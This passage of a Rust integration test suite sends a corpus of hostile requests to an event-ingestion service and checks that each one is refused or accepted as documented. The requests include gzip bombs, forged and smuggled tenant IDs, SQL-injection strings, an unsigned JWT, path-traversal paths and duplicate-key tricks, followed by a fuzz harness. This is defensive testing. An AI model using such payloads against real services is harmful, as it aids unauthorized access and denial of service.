    c.push(gzip("gzip valid event", gz(&valid), accepted(1)));
    c.push(gzip("x-gzip valid event", gz(&valid), accepted(1)).header("Content-Encoding", Some(b"x-gzip")));
    c.push(gzip(
        "gzip bomb 1 GiB of spaces",
        gz_bomb(1024 * MIB),
        refused(413, "too_large"),
    ));
    c.push(gzip(
        "gzip bomb request limit + 1",
        gz(&vec![b' '; LIMIT + 1]),
        refused(413, "too_large"),
    ));
    c.push(gzip(
        "gzip of 501 events",
        gz(&bytes(&json!({ "events": vec![event(); 501] }))),
        refused(413, "too_large"),
    ));
    c.push(gzip("gzip not gzip", valid.clone(), invalid_json()));
    c.push(gzip("gzip empty body", Vec::new(), invalid_json()));
    let packed = gz(&valid);
    c.push(gzip(
        "gzip truncated",
        packed[..packed.len() / 2].to_vec(),
        invalid_json(),
    ));
    let mut corrupt = packed.clone();
    let n = corrupt.len();
    corrupt[n - 6] ^= 0xff; // inside the CRC32
    c.push(gzip("gzip bad crc", corrupt, invalid_json()));
    let mut two = packed.clone();
    two.extend_from_slice(&gz(b"{\"smuggled\":1}"));
    c.push(gzip("gzip second member", two, invalid_json()));
    let mut trailing = packed.clone();
    trailing.extend_from_slice(b"trailing garbage");
    c.push(gzip("gzip trailing garbage", trailing, invalid_json()));
    c.push(gzip("gzip of invalid utf-8", gz(&spliced(b"\"\xff\"")), invalid_json()));
    c.push(gzip("gzip of duplicate keys", gz(br#"{"a":1,"a":2}"#), invalid_json()));
    c.push(gzip(
        "gzip of a forged tenant",
        gz(&bytes(&with("/tenant_id", json!("globex")))),
        problem(403, "tenant_mismatch", "tenant_mismatch", "tenant_id"),
    ));
    c.push(gzip("gzip inside gzip", gz(&gz(&valid)), invalid_json()));
    c.push(
        gzip(
            "gzip with text/plain",
            gz(&valid),
            refused(415, "unsupported_media_type"),
        )
        .header("Content-Type", Some(b"text/plain")),
    );
    c.push(Case::new("identity encoding", valid.clone(), accepted(1)).header("Content-Encoding", Some(b"identity")));
    c.push(
        Case::new(
            "no token and text/plain is 401 first",
            valid.clone(),
            refused(401, "unauthenticated"),
        )
        .header("Content-Type", Some(b"text/plain"))
        .header("Authorization", None),
    );

    // --- forged and missing tenants.
    for (name, auth) in [
        ("no authorization", None),
        ("unknown token", Some(&b"Bearer tok-nobody"[..])),
        ("wrong-case token", Some(b"Bearer TOK-ACME")),
        ("basic auth", Some(b"Basic dG9rLWFjbWU6")),
        ("empty bearer", Some(b"Bearer ")),
        ("bearer only", Some(b"Bearer")),
        ("token with suffix", Some(b"Bearer tok-acme2")),
        ("token prefix", Some(b"Bearer tok-acm")),
        ("token in quotes", Some(b"Bearer \"tok-acme\"")),
        ("tenant name as token", Some(b"Bearer acme")),
        ("non-ascii token", Some(b"Bearer tok-acme\xe9")),
        (
            "jwt-looking token",
            Some(b"Bearer eyJhbGciOiJub25lIn0.eyJ0ZW5hbnRfaWQiOiJhY21lIn0."),
        ),
    ] {
        c.push(Case::new(name, valid.clone(), refused(401, "unauthenticated")).header("Authorization", auth));
    }
    c.push(
        Case::new(
            "tenant header without token",
            valid.clone(),
            refused(401, "unauthenticated"),
        )
        .header("Authorization", None)
        .header("X-Tenant-Id", Some(b"acme")),
    );
    c.push(
        Case::new(
            "control character tenant from authorizer",
            valid.clone(),
            refused(403, "forbidden"),
        )
        .header("Authorization", Some(b"Bearer tok-control")),
    );
    for token in [
        "tok-long",
        "tok-path",
        "tok-hot-suffix",
        "tok-zero-width",
        "tok-bidi",
        "tok-cyrillic",
        "tok-space",
    ] {
        let tenant = TOKENS.iter().find(|(t, _)| *t == token).unwrap().1;
        c.push(
            Case::new(
                format!("tenant {tenant:?} from authorizer"),
                valid.clone(),
                refused(403, "forbidden"),
            )
            .header("Authorization", Some(format!("Bearer {token}").as_bytes())),
        );
    }
    for forged in [
        "globex",
        "ACME",
        "acme ",
        " acme",
        "acme\u{0}",
        "",
        "acme' OR '1'='1",
        "аcme",
        "*",
        "acme#0",
    ] {
        c.push(Case::new(
            format!("forged body tenant {forged:?}"),
            bytes(&with("/tenant_id", json!(forged))),
            problem(403, "tenant_mismatch", "tenant_mismatch", "tenant_id"),
        ));
    }
    let mut mixed = vec![event(), event(), event()];
    mixed[2]["tenant_id"] = json!("globex");
    mixed[0]["outcome"] = json!("maybe");
    c.push(Case::new(
        "one forged tenant in a batch with other problems",
        bytes(&json!({ "events": mixed })),
        problem(403, "tenant_mismatch", "tenant_mismatch", "events[2].tenant_id"),
    ));
    c.push(Case::new(
        "tenant_id as number",
        bytes(&with("/tenant_id", json!(7))),
        invalid("invalid_type", "tenant_id"),
    ));
    c.push(Case::new(
        "tenant_id as object",
        bytes(&with("/tenant_id", json!({ "id": "globex" }))),
        invalid("invalid_type", "tenant_id"),
    ));
    c.push(Case::new(
        "own tenant_id",
        bytes(&with("/tenant_id", json!("acme"))),
        accepted_with(vec![(0, "/tenant_id", json!("acme"))]),
    ));
    c.push(Case::new(
        "null tenant_id",
        bytes(&with("/tenant_id", Value::Null)),
        accepted_with(vec![(0, "/tenant_id", json!("acme"))]),
    ));
    c.push(
        Case::new(
            "globex token stores globex",
            valid.clone(),
            Expect::Accepted {
                events: 1,
                tenant: "globex",
                checks: vec![(0, "/tenant_id".to_string(), json!("globex"))],
            },
        )
        .header("Authorization", Some(b"Bearer tok-globex")),
    );
    for (name, field) in [
        ("received_at forged", "/received_at"),
        ("event_hash forged", "/event_hash"),
    ] {
        c.push(Case::new(
            name,
            bytes(&with(field, json!("2020-01-01T00:00:00Z"))),
            invalid("read_only", &field[1..]),
        ));
    }
    c.push(Case::new(
        "requestContext smuggled in body",
        bytes(&with(
            "/requestContext",
            json!({ "authorizer": { "jwt": { "claims": { "tenant_id": "globex" } } } }),
        )),
        invalid("unknown_field", "requestContext"),
    ));
    c.push(Case::new(
        "batch with authorizer member",
        bytes(&json!({ "events": [event()], "tenant_id": "globex" })),
        problem(400, "invalid_body", "unknown_field", "tenant_id"),
    ));

    // --- duplicate keys, at every level and hidden behind escapes.
    let dupes: [(&str, String); 8] = [
        ("top-level", r#"{"outcome":"success","outcome":"failure"}"#.to_string()),
        (
            "escaped duplicate",
            r#"{"action":"a.b","\u0061ction":"c.d"}"#.to_string(),
        ),
        (
            "in actor",
            r#"{"actor":{"id":"u","id":"root","type":"user"}}"#.to_string(),
        ),
        ("in metadata", r#"{"metadata":{"k":1,"k":2}}"#.to_string()),
        (
            "deep in changes",
            r#"{"changes":{"after":{"a":[{"x":1,"x":2}]}}}"#.to_string(),
        ),
        (
            "tenant twice",
            r#"{"tenant_id":"acme","tenant_id":"globex"}"#.to_string(),
        ),
        ("events twice", format!(r#"{{"events":[],"events":[{}]}}"#, event())),
        (
            "event_id twice",
            r#"{"event_id":"0190f0b4-0000-7000-8000-000000000001","event_id":"0190f0b4-0000-7000-8000-000000000002"}"#
                .to_string(),
        ),
    ];
    for (name, body) in dupes {
        c.push(Case::new(format!("duplicate key {name}"), body, invalid_json()));
    }
    let id = uuid::Uuid::now_v7().to_string();
    let mut twins = vec![event(), event()];
    twins[0]["event_id"] = json!(id);
    twins[1]["event_id"] = json!(id.to_uppercase());
    c.push(Case::new(
        "same event_id twice in a batch (case differs)",
        bytes(&json!({ "events": twins })),
        invalid("invalid_value", "events[1].event_id"),
    ));

    // --- body shapes.
    for (name, body, exp) in [
        (
            "array body",
            &b"[]"[..],
            problem(400, "invalid_body", "invalid_type", ""),
        ),
        ("number body", b"42", problem(400, "invalid_body", "invalid_type", "")),
        (
            "string body",
            b"\"event\"",
            problem(400, "invalid_body", "invalid_type", ""),
        ),
        ("null body", b"null", problem(400, "invalid_body", "invalid_type", "")),
        ("true body", b"true", problem(400, "invalid_body", "invalid_type", "")),
        (
            "array of events",
            b"[{}]",
            problem(400, "invalid_body", "invalid_type", ""),
        ),
        (
            "events object",
            br#"{"events":{}}"#,
            problem(400, "invalid_body", "invalid_type", "events"),
        ),
        (
            "events empty",
            br#"{"events":[]}"#,
            problem(400, "invalid_body", "empty", "events"),
        ),
        (
            "events null",
            br#"{"events":null}"#,
            problem(400, "invalid_body", "invalid_type", "events"),
        ),
        (
            "events string",
            br#"{"events":"[]"}"#,
            problem(400, "invalid_body", "invalid_type", "events"),
        ),
        (
            "events of numbers",
            br#"{"events":[1,2]}"#,
            invalid("invalid_type", "events[1]"),
        ),
        ("empty object", b"{}", invalid("required", "occurred_at")),
    ] {
        c.push(Case::new(name, body, exp));
    }

    // --- methods, paths, headers.
    for (name, method, path, status, error) in [
        ("GET events", "GET", "/v1/events", 405, "method_not_allowed"),
        ("PUT events", "PUT", "/v1/events", 405, "method_not_allowed"),
        ("DELETE events", "DELETE", "/v1/events", 405, "method_not_allowed"),
        ("PATCH events", "PATCH", "/v1/events", 405, "method_not_allowed"),
        ("POST health", "POST", "/v1/health", 405, "method_not_allowed"),
        ("upper-case path", "POST", "/V1/EVENTS", 404, "not_found"),
        ("dot-dot path", "POST", "/v1/../v2/events", 404, "not_found"),
        ("encoded path", "POST", "/v1/%65vents", 404, "not_found"),
        ("v2 path", "POST", "/v2/events", 404, "not_found"),
        ("root", "POST", "/", 404, "not_found"),
        (
            "long path",
            "POST",
            "/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/v1/events/x",
            404,
            "not_found",
        ),
    ] {
        c.push(
            Case::new(name, valid.clone(), refused(status, error))
                .method(method)
                .path(path),
        );
    }
    c.push(Case::new("query string is ignored", valid.clone(), accepted(1)).path("/v1/events?tenant_id=globex&x=%00"));
    c.push(Case::new("stage prefix", valid.clone(), accepted(1)).path("/prod/v1/events"));
    c.push(Case::new("trailing slash", valid.clone(), accepted(1)).path("/v1/events/"));
    for (name, key, exp) in [
        (
            "idempotency key non-ascii",
            &b"k\xe9y"[..],
            problem(400, "invalid_body", "invalid_format", ""),
        ),
        (
            "idempotency key too long",
            "k".repeat(256).as_bytes(),
            problem(400, "invalid_body", "invalid_format", ""),
        ),
        (
            "idempotency key blank",
            b"   ",
            problem(400, "invalid_body", "invalid_format", ""),
        ),
        ("idempotency key with SQL", b"k' OR '1'='1", accepted(1)),
    ] {
        c.push(Case::new(name, valid.clone(), exp).header("Idempotency-Key", Some(key)));
    }
    c.push(
        Case::new(
            "200 junk headers",
            valid.clone(),
            Expect::Framing {
                statuses: vec![Some(431), None],
            },
        )
        .header("X-Junk", Some(b"1"))
        .with_headers((0..200).map(|i| (format!("X-J{i}"), b"v".to_vec()))),
    );

    // --- raw HTTP framing oddities from tests/corpus.
    c.extend(corpus_files());
    c
}

impl Case {
    fn with_headers(mut self, extra: impl Iterator<Item = (String, Vec<u8>)>) -> Case {
        self.headers.extend(extra.map(|(n, v)| (n, Some(v))));
        self
    }
}

/// `tests/corpus/<status>-<name>.http`: raw requests sent byte for byte. The
/// files say `Host: HOST`; `000` means the server may also close without answering.
fn corpus_files() -> Vec<Case> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus");
    let mut files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("read {}: {e}", dir.display()))
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "http"))
        .collect();
    files.sort();
    files
        .into_iter()
        .map(|path| {
            let name = path.file_stem().unwrap().to_string_lossy().into_owned();
            let (status, _) = name.split_once('-').expect("<status>-<name>.http");
            let statuses: Vec<Option<u16>> = status
                .split('+')
                .map(|s| match s {
                    "000" => None,
                    s => Some(s.parse().expect("status")),
                })
                .collect();
            let raw = std::fs::read(&path).unwrap();
            Case {
                raw: Some(raw),
                ..Case::new(format!("corpus {name}"), Vec::new(), Expect::Framing { statuses })
            }
        })
        .collect()
}

fn replace_bytes(haystack: &[u8], needle: &[u8], with: &[u8]) -> Vec<u8> {
    match haystack.windows(needle.len()).position(|w| w == needle) {
        Some(at) => [&haystack[..at], with, &haystack[at + needle.len()..]].concat(),
        None => haystack.to_vec(),
    }
}

/// Replace `NOW` in a body with the current time (for hand-written bodies).
fn fill_now(body: &[u8]) -> Vec<u8> {
    let now = timestamp::format(&Utc::now());
    replace_bytes(body, b"\"NOW\"", format!("\"{now}\"").as_bytes())
}

// ---------------------------------------------------------------- checks

fn check_case(case: &Case, answer: &Answer, new_records: &[stele_ingest::Record]) -> Result<(), String> {
    let body_text = String::from_utf8_lossy(&answer.body[..answer.body.len().min(600)]).into_owned();
    let fail = |what: String| Err(format!("{what}; status {:?}, body {body_text}", answer.status));
    match &case.expect {
        Expect::Accepted { events, tenant, checks } => {
            if answer.status != Some(202) {
                return fail("expected 202".into());
            }
            let reply: Value = serde_json::from_slice(&answer.body).map_err(|e| format!("202 body: {e}"))?;
            let ids = reply["accepted"].as_array().map(Vec::len).unwrap_or(0);
            if ids != *events || new_records.len() != *events {
                return fail(format!(
                    "expected {events} events, answer lists {ids}, sink got {}",
                    new_records.len()
                ));
            }
            for (i, record) in new_records.iter().enumerate() {
                let sealed = SealedEvent::open(&record.data).map_err(|e| format!("record {i} does not open: {e}"))?;
                let value = stele_core::json::parse_strict(&record.data).map_err(|e| e.to_string())?;
                if to_canonical_vec(&value) != record.data.as_ref() {
                    return fail(format!("record {i} is not in canonical form"));
                }
                if sealed.event.tenant_id != *tenant || record.partition_key != *tenant {
                    return fail(format!("record {i} is stored for tenant {}", sealed.event.tenant_id));
                }
                if reply["accepted"][i]["event_hash"] != json!(sealed.hash.to_hex()) {
                    return fail(format!("record {i} hash differs from the answer"));
                }
            }
            for (i, pointer, want) in checks {
                let value = stele_core::json::parse_strict(&new_records[*i].data).unwrap();
                if value.pointer(pointer) != Some(want) {
                    return fail(format!(
                        "record {i} {pointer} is {:?}, want {want}",
                        value.pointer(pointer)
                    ));
                }
            }
            Ok(())
        }
        Expect::Refused { status, error, problem } => {
            if !new_records.is_empty() {
                return fail(format!("{} refused event(s) reached the sink", new_records.len()));
            }
            if answer.status != Some(*status) {
                return fail(format!("expected {status}"));
            }
            let reply: Value =
                serde_json::from_slice(&answer.body).map_err(|e| format!("error body: {e}: {body_text}"))?;
            if reply["error"] != json!(error) || !reply["message"].is_string() {
                return fail(format!("expected error {error}"));
            }
            if let Some(problems) = reply["problems"].as_array() {
                // Every problem is counted; the list stops at the cap.
                let total = reply["problems_total"].as_u64().unwrap_or(0) as usize;
                let counted = reply["message"]
                    .as_str()
                    .is_some_and(|m| m.starts_with(&format!("{total} problem(s)")));
                if problems.len() != total.min(stele_core::limits::MAX_PROBLEMS_LISTED) || !counted {
                    return fail(format!("{} problems listed of problems_total {total}", problems.len()));
                }
            }
            if let Some((code, path)) = problem {
                let listed = reply["problems"]
                    .as_array()
                    .is_some_and(|ps| ps.iter().any(|p| p["code"] == json!(code) && p["path"] == json!(path)));
                if !listed {
                    return fail(format!("expected a problem {code} at `{path}`"));
                }
            }
            Ok(())
        }
        Expect::Framing { statuses } => {
            if statuses.contains(&answer.status) {
                if answer.status != Some(202) && !new_records.is_empty() {
                    return fail("a refused request reached the sink".into());
                }
                Ok(())
            } else {
                fail(format!("expected one of {statuses:?}"))
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_hostile_request_gets_its_documented_status_and_nothing_refused_is_stored() {
    let mut server = Server::start().await;
    let cases = cases();
    assert!(cases.len() >= 200, "the corpus has {} cases", cases.len());
    let mut failures = Vec::new();
    let mut by_status: std::collections::BTreeMap<String, usize> = Default::default();
    for case in &cases {
        let request = match &case.raw {
            Some(raw) => replace_bytes(raw, b"Host: HOST", format!("Host: {}", server.addr).as_bytes()),
            None => Case {
                body: fill_now(&case.body),
                ..case.clone()
            }
            .request(server.addr),
        };
        let answer = exchange(server.addr, request, case.name.ends_with("-then-eof")).await;
        let records = server.newly_stored().await;
        if let Err(why) = check_case(case, &answer, &records) {
            failures.push(format!("{}: {why}", case.name));
        }
        *by_status
            .entry(answer.status.map_or("closed".into(), |s| s.to_string()))
            .or_default() += 1;
        assert!(
            healthy(server.addr).await,
            "the server still answers after case `{}`",
            case.name
        );
    }
    eprintln!("hostile corpus: {} cases, statuses {by_status:?}", cases.len());
    assert!(
        failures.is_empty(),
        "{} case(s) failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
    server.shutdown().await;
}

// ---------------------------------------------------------------- fuzz smoke

/// The body of the cargo-fuzz target (`fuzz/fuzz_targets/ingest_request.rs`),
/// shared so that the regular test run exercises it too.
#[path = "../../fuzz/fuzz_targets/ingest_one.rs"]
mod ingest_one;

/// A small xorshift generator: deterministic per seed, no dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
}

/// Tokens a mutation may insert: the places parsers and validators break.
const TOKENS_OF_INTEREST: [&[u8]; 16] = [
    b"{",
    b"}",
    b"[",
    b"\"",
    b"\\u0000",
    b"\\ud800",
    b"1e999",
    b"-0",
    b"9007199254740993",
    b"null",
    b"\"events\":",
    b"\"tenant_id\":\"globex\",",
    b"\xff",
    b"\xed\xa0\x80",
    b",",
    b"\"\xf0\x9f\x94\x90\"",
];

fn mutate(rng: &mut Rng, seeds: &[Vec<u8>]) -> Vec<u8> {
    let mut data = seeds[rng.below(seeds.len())].clone();
    for _ in 0..=rng.below(4) {
        let at = rng.below(data.len() + 1);
        match rng.below(6) {
            0 if !data.is_empty() => {
                let i = at.min(data.len() - 1);
                data[i] ^= 1 << rng.below(8);
            }
            1 => data.insert(at, rng.next() as u8),
            2 => {
                let end = (at + rng.below(16)).min(data.len());
                data.drain(at..end);
            }
            3 => {
                let token = TOKENS_OF_INTEREST[rng.below(TOKENS_OF_INTEREST.len())];
                data.splice(at..at, token.iter().copied());
            }
            4 => {
                let other = &seeds[rng.below(seeds.len())];
                let from = rng.below(other.len());
                let to = (from + rng.below(64)).min(other.len());
                data.splice(at..at, other[from..to].iter().copied());
            }
            _ => data.truncate(at),
        }
    }
    data
}

#[test]
fn the_fuzz_target_holds_on_the_corpus_and_on_bounded_random_mutations() {
    // Seeds: every case body of the corpus under 64 KiB, with its placeholder time filled.
    let seeds: Vec<Vec<u8>> = cases()
        .iter()
        .filter(|c| c.raw.is_none() && c.body.len() <= 64 * 1024)
        .map(|c| fill_now(&c.body))
        .collect();
    assert!(seeds.len() >= 200);
    let mut accepted = 0;
    for (i, seed) in seeds.iter().enumerate() {
        for selector in [0u8, 0x20, 0x80, i as u8] {
            let mut input = vec![selector];
            input.extend_from_slice(seed);
            accepted += ingest_one::ingest_one(&input);
        }
    }
    assert!(accepted > 0, "the corpus holds valid events");
    // Bounded: a fixed number of mutated and purely random inputs.
    let mut rng = Rng(0x5eed_57e1e);
    for _ in 0..4000 {
        let mut input = vec![rng.next() as u8];
        input.extend(mutate(&mut rng, &seeds));
        ingest_one::ingest_one(&input);
    }
    for _ in 0..1000 {
        let len = rng.below(256);
        let input: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
        ingest_one::ingest_one(&input);
    }
}
